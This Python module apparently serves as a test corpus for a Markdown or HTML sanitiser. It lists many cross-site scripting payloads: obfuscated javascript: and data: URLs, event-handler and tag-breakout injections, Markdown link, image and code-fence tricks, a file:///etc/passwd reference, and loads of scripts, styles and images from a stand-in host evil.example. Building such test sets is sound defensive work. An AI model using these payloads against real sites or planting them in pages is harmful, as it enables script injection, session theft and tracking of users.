"""Texts that try to get something run, loaded or opened by the page that shows them."""

from __future__ import annotations

from typing import Final

_URLS: Final = (
    "javascript:pwn()", "JaVaScRiPt:pwn()", "java\tscript:pwn()", "java&#10;script:pwn()", "java&Tab;script:pwn()",
    "&#106;avascript:pwn()", "&#x6A;avascript:pwn()", "javascript&colon;pwn()", "\x01javascript:pwn()",
    "&#1;javascript:pwn()", " javascript:pwn()", "\u00a0javascript:pwn()", "\u200bjavascript:pwn()",
    "java\u00adscript:pwn()", "ｊavascript:pwn()", "javascript\u0589pwn()", "javascript\\:pwn()",
    "javascript://x.example/%0Apwn()", "vbscript:pwn()", "data:text/html,<script>pwn()</script>",
    "data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg/onload=pwn()>",
    "feed:javascript:pwn()", "view-source:javascript:pwn()", "blob:null/x", "file:///etc/passwd",
    'x" onmouseover="pwn()', "x' onmouseover='pwn()", "x\"><script>pwn()</script>", "`onmouseover=pwn()",
)  # fmt: skip

_RAW: Final = (
    "<script>pwn()</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>pwn()</script>",
    "<img src=x onerror=pwn()>", "a <img/src=x/onerror=pwn()> b", "<svg onload=pwn()>",
    "<svg><script>pwn()</script></svg>",
    "<math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=pwn() src>\">",
    "<iframe srcdoc='<script>parent.pwn()</script>'></iframe>", "<iframe src=javascript:pwn()>",
    "<object data=javascript:pwn()>",
    "<embed src=//evil.example/x.swf>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<style>*{background:url(//evil.example/x.png)}</style>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:pwn()'>", "<body onload=pwn()>",
    "<details open ontoggle=pwn()>x</details>",
    "<form action=javascript:pwn()><button>x</button></form>", "<input autofocus onfocus=pwn()>",
    "<video><source onerror=pwn()></video>",
    "<!--><script>pwn()</script>-->", "<![CDATA[<script>pwn()</script>]]>", "<?php pwn() ?>",
    "</p></div></body><script>pwn()</script>",
    "<template><script>pwn()</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=pwn()>\">",
    "<textarea></textarea><script>pwn()</script>", "&lt;script&gt;pwn()&lt;/script&gt;",
    "&#60;img src=x onerror=pwn()&#62;",
)  # fmt: skip

_PLACES: Final = (
    '[a](/u "t\\" onmouseover=\\"pwn()")', "[a](/u '\"><script>pwn()</script>')", '![a"onerror="pwn()](/u)',
    "![<img src=x onerror=pwn()>](/u '\"onload=\"pwn()')", '```py" onclick="pwn()\nx\n```',
    "```\"><script>pwn()</script>\nx\n```",
    "~~~<img src=x onerror=pwn()>\nx\n~~~", "`<script>pwn()</script>`", "    <script>pwn()</script>",
    "$<img src=x onerror=pwn()>$", "$$\n</div><script>pwn()</script>\n$$", "\\[<svg onload=pwn()>\\]",
    'a[^"><script>pwn()</script>]\n\n[^"><script>pwn()</script>]: <script>pwn()</script>',
    "a[^x\"onclick=\"pwn()]\n\n[^x\"onclick=\"pwn()]: note", "[^javascript:pwn()]\n\n[^javascript:pwn()]: x",
    "| <script>pwn()</script> | b |\n|---|---|\n| <img src=x onerror=pwn()> | [x](javascript:pwn()) |",
    "- [x] <img src=x onerror=pwn()>\n\n- <script>pwn()</script>", "> <script>\n> pwn()\n> </script>",
    "# <script>pwn()</script>", "<svg onload=pwn()>\n===", "[a]\n\n[a]: javascript:pwn() 'x'",
    "[a]\n\n[a]: /u '\" onclick=pwn() \"'",
    "https://evil.example/\"onmouseover=pwn()", "www.evil.example/<script>pwn()</script>",
    "x@evil.example\"onclick=pwn()",
    "<javascript:pwn()>", "<https://e.example/\"onclick=\"pwn()>", "<span data-block=0><script>pwn()</script></span>",
    '<p data-block="1" onclick="pwn()">x', "[![x](javascript:pwn())](javascript:pwn())",
    "1. a\n1. <script>pwn()</script>\n\n   b",
    "![x](https://evil.example/x.png)", "![x](//evil.example/x.png)", "![x](/\\\\evil.example/x.png)",
    "![x](data:image/png;base64,AAAA)",
)  # fmt: skip

ATTACKS: Final[tuple[str, ...]] = (
    *(f"[click]({url})" for url in _URLS[:12]),
    *(f"[click](<{url}>)" for url in _URLS if "<" not in url),
    *(f"![pic](<{url}>)" for url in _URLS[::3] if "<" not in url),
    *_RAW,
    *_PLACES,
)
"""Each tries to call `pwn` or to reach another host."""
